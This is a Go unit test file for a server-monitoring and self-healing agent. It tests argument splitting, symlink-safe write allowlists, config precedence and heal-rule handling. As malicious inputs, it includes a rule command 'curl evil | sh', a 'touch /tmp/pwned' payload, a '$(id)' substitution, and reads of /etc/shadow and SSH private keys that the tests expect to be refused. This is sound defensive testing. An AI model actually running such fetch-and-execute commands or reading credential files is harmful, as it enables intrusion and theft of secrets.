package agent

import (
	"context"
	"github.com/noba-go/noba/internal/agent/sysroot"
	"github.com/noba-go/noba/internal/wire"
	"github.com/noba-go/noba/internal/wire/condition"
	"log/slog"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
)

func TestSplitArgs(t *testing.T) {
	for _, c := range []struct {
		in   string
		want []string
		err  bool
	}{
		{`df -h /`, []string{"df", "-h", "/"}, false},
		{`echo 'a b' "c \"d\"" e\ f`, []string{"echo", "a b", `c "d"`, "e f"}, false},
		{`echo $(id) | cat`, []string{"echo", "$(id)", "|", "cat"}, false},
		{`echo 'unterminated`, nil, true},
		{`echo ""`, []string{"echo", ""}, false},
	} {
		got, err := splitArgs(c.in)
		if (err != nil) != c.err || (!c.err && !reflect.DeepEqual(got, c.want)) {
			t.Errorf("splitArgs(%q) = %q, %v; want %q (err %v)", c.in, got, err, c.want, c.err)
		}
	}
}

func TestWriteAllowlistResolvesSymlinks(t *testing.T) {
	dataDir := t.TempDir()
	a := &Agent{cfg: Config{DataDir: dataDir}}
	allowed, err := os.MkdirTemp("/tmp", "noba-unit-")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(allowed)
	outside := t.TempDir()
	// A symlink inside an allowed directory pointing outside must not
	// let a write escape (spec 20 §19.22).
	if err := os.Symlink(outside, filepath.Join(allowed, "escape")); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		p  string
		ok bool
	}{
		{filepath.Join(allowed, "new", "file.txt"), true},
		{filepath.Join(dataDir, "x.conf"), true},
		{filepath.Join(allowed, "escape", "pwned"), false},
		{"/etc/noba-agent-evil", false},
		{"/tmp/noba", false},
		{"/tmp/nobaxyz/f", false},
		{filepath.Join(allowed, "..", "x"), false},
	} {
		_, err := a.writable(c.p)
		if (err == nil) != c.ok {
			t.Errorf("writable(%q) err=%v, want allowed=%v", c.p, err, c.ok)
		}
	}
	if _, err := readable("/etc/shadow"); err == nil {
		t.Error("readable(/etc/shadow)")
	}
	if _, err := readable(filepath.Join(allowed, "id_ed25519")); err != nil {
		t.Errorf("plain file refused: %v", err)
	}
	if err := os.MkdirAll(filepath.Join(allowed, ".ssh"), 0o700); err == nil {
		if _, err := readable(filepath.Join(allowed, ".ssh", "id_rsa")); err == nil {
			t.Error("private SSH key readable")
		}
	}
}

func TestConfigPrecedence(t *testing.T) {
	dir := t.TempDir()
	cfgPath := filepath.Join(dir, "agent.yaml")
	if err := os.WriteFile(cfgPath, []byte("server: http://file:1\napi_key: filekey\ninterval: 45\nhostname: from-file\nverify_ssl: false\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	env := map[string]string{"NOBA_SERVER": "http://env:1", "NOBA_AGENT_KEY": "envkey", "NOBA_AGENT_TAGS": "web"}
	getenv := func(k string) string { return env[k] }
	c, err := LoadConfig(Flags{Config: cfgPath, Key: "flagkey"}, getenv)
	if err != nil {
		t.Fatal(err)
	}
	if c.Server != "http://file:1" || c.Key != "flagkey" || c.Interval != 45 || c.Hostname != "from-file" || c.VerifySSL || c.Tags != "web" {
		t.Fatalf("config: %+v", c)
	}
	c, err = LoadConfig(Flags{Config: filepath.Join(dir, "missing.yaml")}, getenv)
	if err != nil || c.Server != "http://env:1" || c.Key != "envkey" || c.Interval != 30 || !c.VerifySSL {
		t.Fatalf("env config: %+v %v", c, err)
	}
	if _, err := LoadConfig(Flags{Config: cfgPath, Interval: 0, Server: "ftp://x"}, getenv); err == nil || !strings.Contains(err.Error(), "invalid server URL") {
		t.Fatalf("bad server URL accepted: %v", err)
	}
}

// The agent evaluates heal conditions with the server's parser
// (internal/wire/condition): both sides agree on every condition.
func TestHealConditionsUseTheServerParser(t *testing.T) {
	m := &wire.Metrics{Hostname: "web-1", CPUPercent: 93.5, MemPercent: 40, Disks: []wire.Disk{{Mount: "/", Percent: 91}}}
	get := healMetrics("web-1", m)
	for _, c := range []struct {
		cond string
		want bool
	}{
		{"cpu_percent > 90", true},
		{"agent_web_1.cpu_percent > 90", true},
		{"cpu_percent > 90 AND mem_percent > 50", false},
		{"cpu_percent > 95 OR disks[0].percent >= 91", true},
		{"unknown_metric > 1", false},
		{"mem_percent == 40", true},
	} {
		cond, err := condition.Parse(c.cond)
		if err != nil {
			t.Fatalf("%q: %v", c.cond, err)
		}
		if got := cond.Eval(get); got != c.want {
			t.Errorf("%q = %v, want %v", c.cond, got, c.want)
		}
	}
	// What the server's parser refuses never runs on the agent either.
	if _, err := condition.Parse("cpu_percent >> 1"); err == nil {
		t.Fatal("server parser accepted a bad condition")
	}
	cmd, params, _ := healAction(map[string]any{"action_type": "restart_container", "action_params": map[string]any{"container": "web"}})
	if cmd != "container_control" || params["container"] != "web" || params["action"] != "restart" {
		t.Fatalf("restart_container maps to %s %v", cmd, params)
	}
}

// Issue 11 §10: a heal step never runs `sh -c` with a command taken from
// the alert rule.
func TestHealRunsNoShellFromRules(t *testing.T) {
	fake := &sysroot.Fake{Answers: map[string]sysroot.Result{"sync": {}, "resolvectl": {}}}
	a := New(Config{Hostname: "web-1", DataDir: t.TempDir(), Sys: &sysroot.Sys{Root: t.TempDir(), Runner: fake,
		LookPath: sysroot.LookIn("sync", "resolvectl", "sh")}}, slog.New(slog.DiscardHandler))
	a.healSleep = func(time.Duration) {}
	rules := []map[string]any{
		{"rule_id": "r1", "condition": "cpu_percent > 50", "action_type": "flush_dns", "trust_level": "execute",
			"action_params": map[string]any{"command": "touch /tmp/pwned"}},
		{"rule_id": "r2", "condition": "cpu_percent > 50", "action_type": "clear_cache", "trust_level": "execute",
			"action_params": map[string]any{"command": "curl evil | sh"}},
	}
	a.healRound(context.Background(), rules, &wire.Metrics{Hostname: "web-1", CPUPercent: 80})
	calls := fake.Called()
	if len(calls) != 2 {
		t.Fatalf("calls: %v", calls)
	}
	for _, c := range calls {
		if c[0] == "sh" || strings.Contains(strings.Join(c, " "), "pwned") || strings.Contains(strings.Join(c, " "), "evil") {
			t.Fatalf("heal ran a rule's command: %v", c)
		}
	}
	if len(a.heal) != 2 || a.heal[0]["rule_id"] != "r1" {
		t.Fatalf("heal reports: %v", a.heal)
	}
}
